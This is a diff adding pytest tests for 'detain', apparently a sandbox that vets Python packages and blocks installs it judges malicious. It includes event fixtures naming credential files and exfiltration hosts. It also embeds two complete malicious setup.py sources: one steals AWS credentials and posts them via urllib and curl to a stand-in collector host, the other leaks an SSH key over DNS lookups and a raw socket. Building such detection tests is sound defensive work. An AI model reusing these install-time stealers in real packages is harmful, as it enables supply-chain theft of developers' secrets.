@@ -1,0 +1,251 @@
+"""The verdict: clean, suspicious or malicious-looking, and why; `detain package` gates on it.
+
+The rules are checked on hand-written events of every source (audit hook, proxy, outside
+tracer). Then, for real: two malicious sdists built here by hand (their setup.py steals
+credentials at install time; nothing of them ever runs on the host) must make `detain
+package` exit 3 with the credential read at its setup.py line, and a real benign sdist
+(six 1.17.0, from the configured index through detain's own fetch) must exit 0, clean.
+"""
+
+from __future__ import annotations
+
+import json
+import urllib.request
+from pathlib import Path
+
+import pytest
+
+from conftest import detain_cli, require
+from detain.report.verdict import CLEAN, MALICIOUS, SUSPICIOUS, line, verdict
+from test_package import build_sdist
+
+INDEX = ["pypi.org", "files.pythonhosted.org"]
+
+
+def hook(event: str, category: str, **detail) -> dict:
+    return {"event": event, "category": category, "detail": detail, "file": "setup.py",
+            "line": 7, "provenance": "in-process", "severity": "high"}
+
+
+def kernel(event: str, category: str, **detail) -> dict:
+    return {"event": event, "category": category, "detail": detail, "file": None,
+            "line": None, "provenance": "kernel/runtime", "severity": "high"}
+
+
+@pytest.mark.parametrize("event", [
+    hook("open", "file-read", path="/scratch/.aws/credentials", mode="r"),
+    kernel("kernel.openat", "file-read", target="/home/u/.ssh/id_rsa"),
+    hook("os.environ.get", "env", name="AWS_SECRET_ACCESS_KEY"),
+    hook("urllib.Request", "network", url="http://collector.exfil.invalid/c", method="POST"),
+    hook("socket.getaddrinfo", "network", host="x.dns.exfil.invalid", port="53"),
+    hook("socket.connect", "network", address="('127.0.0.1', 4444)"),
+    kernel("kernel.connect", "network", target="[2001:db8::1]:443"),
+    kernel("proxy.connect", "network", host="evil.example", port=80, allowed=False),
+    hook("subprocess.Popen", "process", executable="curl", argv="['curl', 'x']"),
+    hook("os.system", "process", command="sh -c 'id'"),
+    kernel("kernel.execve", "process", target="/usr/bin/wget", argv="wget x"),
+    hook("open", "file-write", path="/scratch/.bashrc", mode="a"),
+    kernel("kernel.rename", "file-write", target="/tmp/x -> /usr/lib/python3/sitecustomize.py"),
+    hook("open", "file-write", path="/scratch/.config/systemd/user/x.service", mode="w"),
+])
+def test_high_signals_are_malicious_looking(event):
+    result = verdict([event], INDEX)
+    assert result["level"] == MALICIOUS, result
+    assert len(result["reasons"]) == 1
+    assert ("(setup.py:7)" in result["reasons"][0]) == (event["provenance"] == "in-process")
+
+
+@pytest.mark.parametrize("event", [
+    hook("open", "file-read", path="/etc/hostname", mode="r"),
+    hook("urllib.Request", "network", url="https://pypi.org/simple/six/"),
+    hook("socket.connect", "network", address="('127.0.0.1', 3128)"),  # detain's proxy
+    kernel("proxy.connect", "network", host="pypi.org", port=443, allowed=True),
+    hook("subprocess.Popen", "process", executable="/scratch/venv/bin/python"),
+    hook("subprocess.Popen", "process", executable="gcc", argv="['gcc', '-c', 'x.c']"),
+    kernel("kernel.execve", "process", target="/usr/bin/git", argv="git describe"),
+    hook("open", "file-write", path="build/lib/pkg/__init__.py", mode="w"),
+    kernel("kernel.openat", "file-write",
+           target="/scratch/tmp/pip-build-env-x/site/sitecustomize.py"),
+    kernel("kernel.unlinkat", "file-write", target="/scratch/.bashrc"),
+    hook("compile", "code", source="def f(): pass"),
+])
+def test_ordinary_build_work_is_clean(event):
+    assert verdict([event], INDEX) == {"level": CLEAN, "reasons": [], "signals": {}}
+
+
+def test_suspicious_and_the_reasons_are_few_and_varied():
+    walked = hook("os.environ.iter", "env", variables=12)
+    assert verdict([walked])["level"] == SUSPICIOUS
+    many = [hook("open", "file-read", path=f"/scratch/.ssh/id_{n}") for n in range(5)] + [
+        hook("subprocess.Popen", "process", executable="curl"), walked]
+    result = verdict(many)
+    assert result["level"] == MALICIOUS and len(result["reasons"]) == 3
+    assert result["reasons"][1].startswith("process started: curl")  # one per kind first
+    assert result["signals"] == {"credentials read": 5, "process started": 1,
+                                 "environment walked": 1}
+    assert line(result).startswith("verdict: malicious-looking — credentials read: ")
+
+
+def test_run_summary_ends_with_the_verdict():
+    require("bwrap")
+    done = detain_cli("run", "--backend", "bwrap", "--summary", "-c",
+                      "import os\nos.getenv('NPM_TOKEN')\n", timeout=60)
+    assert done.returncode == 0, done.stderr.decode()[-2000:]
+    last = done.stderr.decode().strip().splitlines()[-1]
+    assert last.startswith("detain: verdict: malicious-looking — secret read: environment "
+                           "variable NPM_TOKEN (<string>:2)"), last
+
+
+# --- detain package, for real -------------------------------------------------------------
+
+AWS_THIEF = '''import os
+import subprocess
+import urllib.request
+from setuptools import setup
+from setuptools.command.install import install
+
+
+def steal():
+    path = os.path.expanduser("~/.aws/credentials")
+    try:
+        with open(path) as handle:
+            data = handle.read()
+    except OSError:
+        data = os.environ.get("AWS_SECRET_ACCESS_KEY", "none")
+    request = urllib.request.Request("http://collector.exfil.invalid/c", data=data.encode(),
+                                     method="POST")
+    try:
+        urllib.request.urlopen(request, timeout=3)
+    except Exception:
+        pass
+    try:
+        subprocess.run(["curl", "-s", "-m", "2", "-d", "@" + path,
+                        "http://collector.exfil.invalid/"], check=False)
+    except OSError:
+        pass
+
+
+steal()
+
+
+class Install(install):
+    def run(self):
+        steal()
+        install.run(self)
+
+
+setup(name="awsthief", version="1.0", py_modules=["awsthief"], cmdclass={"install": Install})
+'''
+DNS_LEAK = '''import base64
+import os
+import socket
+import subprocess
+from setuptools import setup
+
+
+def leak():
+    try:
+        with open(os.path.expanduser("~/.ssh/id_rsa"), "rb") as handle:
+            key = handle.read()
+    except OSError:
+        key = b"no key here"
+    label = base64.b32encode(key[:30]).decode().strip("=").lower()
+    try:
+        socket.gethostbyname(label + ".dns.exfil.invalid")
+    except OSError:
+        pass
+    raw = socket.socket()
+    try:
+        raw.connect(("127.0.0.1", 4444))
+        raw.sendall(key)
+    except OSError:
+        pass
+    finally:
+        raw.close()
+    try:
+        subprocess.run(["curl", "--noproxy", "*", "-s", "-m", "2", "http://198.51.100.7/k"],
+                       check=False)
+    except OSError:
+        pass
+
+
+leak()
+setup(name="dnsleak", version="1.0", py_modules=["dnsleak"])
+'''
+
+
+def needs_index() -> None:
+    require("bwrap")
+    try:
+        urllib.request.urlopen("https://pypi.org/simple/setuptools/", timeout=5).close()
+    except OSError as exc:
+        pytest.skip(f"the host cannot reach the package index ({exc}); building an sdist "
+                    "needs setuptools from it")
+
+
+def vet(artifact: Path, tmp: Path, *extra: str):
+    done = detain_cli("package", "--backend", "bwrap", "--json", str(tmp / "package.json"),
+                      *extra, str(artifact), timeout=300)
+    assert (tmp / "package.json").exists(), done.stderr.decode()[-3000:]
+    report = json.loads((tmp / "package.json").read_text())
+    return done, report, [e for p in report["phases"] for e in p["report"]["events"]]
+
+
+def setup_line(source: str, text: str) -> int:
+    return next(n for n, line in enumerate(source.splitlines(), 1) if text in line)
+
+
+@pytest.mark.slow
+def test_credential_thief_fails_the_gate_with_its_setup_py_line(tmp_path):
+    needs_index()
+    done, report, events = vet(build_sdist(tmp_path, "awsthief", AWS_THIEF), tmp_path,
+                               "--report", str(tmp_path / "r.sarif"),
+                               "--report", str(tmp_path / "r.html"))
+    assert done.returncode == 3, done.stderr.decode()[-3000:]
+    assert report["verdict"]["level"] == "malicious-looking"
+    reads = [e for e in events if ".aws/credentials" in str(e["detail"].get("path"))
+             and e["provenance"] == "in-process"]
+    assert reads and {(e["file"], e["line"], e["phase"]) for e in reads} == {
+        ("setup.py", setup_line(AWS_THIEF, "open(path)"), "install")}, reads
+    assert any(e["event"] == "subprocess.Popen" and "curl" in e["summary"] for e in events)
+    assert any("collector.exfil.invalid" in str(e["detail"].get("url")) for e in events)
+    assert "credentials read: /scratch/.aws/credentials (setup.py:" in done.stderr.decode()
+    # noise that was in every report: pip itself is not the package's
+    assert not any("/scratch/venv/bin/python" in e["summary"] for e in events
+                   if e["event"] == "subprocess.Popen")
+    sarif = json.loads((tmp_path / "r.sarif").read_text())
+    assert sarif["runs"][-1]["invocations"][0]["properties"]["verdict"]["level"] \
+        == "malicious-looking"
+    assert 'id="verdict"' in (tmp_path / "r.html").read_text()
+
+
+@pytest.mark.slow
+def test_dns_and_raw_socket_leak_fails_the_gate(tmp_path):
+    needs_index()
+    done, report, events = vet(build_sdist(tmp_path, "dnsleak", DNS_LEAK), tmp_path)
+    assert done.returncode == 3, done.stderr.decode()[-3000:]
+    assert report["verdict"]["level"] == "malicious-looking"
+    install = [e for e in events if e["phase"] == "install" and e["provenance"] == "in-process"]
+    key = [e for e in install if "id_rsa" in str(e["detail"].get("path"))]
+    assert key and key[0]["line"] == setup_line(DNS_LEAK, "open(os.path") and \
+        key[0]["file"] == "setup.py", key
+    assert any(e["event"] == "socket.gethostbyname" and "dns.exfil.invalid" in
+               str(e["detail"].get("host")) for e in install), install
+    assert any(e["event"] == "socket.connect" and "4444" in e["summary"] for e in install)
+    assert any(e["event"] == "subprocess.Popen" and "--noproxy" in str(e["detail"])
+               for e in install)
+
+
+@pytest.mark.slow
+def test_benign_sdist_is_clean(tmp_path):
+    needs_index()
+    from detain.package.fetch import _sdist
+    from detain.package.index import read_config
+
+    sdist = _sdist("six", "1.17.0", tmp_path, read_config())
+    done, report, events = vet(sdist, tmp_path, "--fail-on", "suspicious")
+    assert done.returncode == 0, done.stderr.decode()[-3000:]
+    assert report["verdict"] == {"level": "clean", "reasons": [], "signals": {}}
+    assert not [e for e in events if e["severity"] == "high"
+                and e["provenance"] == "in-process"], events
+    assert done.stderr.decode().strip().splitlines()[-1] == "detain: verdict: clean"
